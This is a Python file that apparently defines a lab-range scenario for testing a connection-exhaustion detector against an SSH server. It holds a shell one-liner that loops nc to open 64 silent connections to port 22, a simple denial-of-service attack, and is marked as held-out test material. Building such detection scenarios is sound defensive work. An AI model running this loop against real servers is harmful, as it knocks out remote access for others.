"""Connections to an SSH server that never log in, until it takes no more."""

from lab import servers
from lab.range import Range
from lab.scenario import Scenario


def run(net: Range) -> None:
    attacker, server = net.outside("attacker"), net.inside("files")
    servers.shell(server)
    net.everyday()
    net.loop(net.inside("pc2"), f"ssh-keyscan -T 2 {server.ip}", 1.5)
    with net.attack(
        "connection-exhaustion",
        by=attacker,
        victims=[server],
        frames=f"tcp and dst host {server.ip} and dst port 22",
        responses=f"tcp and src host {server.ip} and dst host {attacker.ip}",
    ):
        script = f"for n in $(seq 64); do sleep 38 | nc {server.ip} 22 >/dev/null & sleep 0.15; done; wait"
        net.tool(attacker, "sh", "-c", script, seconds=44)
    net.quiet(2)


SCENARIO = Scenario(
    name="connection-exhaustion-held-ssh",
    about="A machine outside holds some fifty connections to an SSH server and never says a word.",
    detectors=("connection-exhaustion",),
    tools={"nc": "ncat", "ssh-keyscan": "openssh-client"},
    held_out=True,
    run=run,
)
